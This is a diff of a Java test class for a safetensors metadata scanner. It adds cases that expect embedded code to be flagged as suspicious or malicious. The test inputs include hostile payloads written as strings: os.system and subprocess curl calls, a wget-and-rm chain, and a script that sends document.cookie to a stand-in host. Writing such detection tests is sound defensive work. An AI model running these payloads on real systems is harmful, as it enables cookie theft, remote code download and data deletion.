@@ -92,11 +92,40 @@ class SafetensorsFormatTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"import os; os.system('echo pwned')", "<script>alert(1)</script>"})
+    @ValueSource(
+            strings = {
+                "<script>alert(1)</script>",
+                "Call os.system('x') to set it up.",
+                "wget http://acme.example/weights",
+                "rm -rf /tmp/test"
+            })
     void codeInTheMetadataIsSuspicious(String text) {
         assertThat(scan(file("{\"__metadata__\":{\"info\":\"" + text + "\"}}", 0))
                         .verdict())
-                .isNotEqualTo(Verdict.CLEAN);
+                .isEqualTo(Verdict.SUSPICIOUS);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "import os; os.system('echo pwned')",
+                "import subprocess; subprocess.call(['curl', 'http://acme.example'])",
+                "rm -rf /tmp/test && wget http://acme.example/script.sh",
+                "<script>fetch('http://acme.example', {body: document.cookie})</script>"
+            })
+    void aProgramInTheMetadataIsMalicious(String text) {
+        assertThat(scan(file("{\"__metadata__\":{\"info\":\"" + text + "\"}}", 0))
+                        .verdict())
+                .isEqualTo(Verdict.MALICIOUS);
+    }
+
+    @Test
+    void anAddressIsSuspiciousWhereTheModelWouldCallBack() {
+        assertThat(rules(scan(file("{\"__metadata__\":{\"callback_url\":\"http://acme.example/\"}}", 0))))
+                .containsExactly("metadata.callback");
+        assertThat(scan(file("{\"__metadata__\":{\"source\":\"http://acme.example/\"}}", 0))
+                        .findings())
+                .isEmpty();
     }
 
     @Test
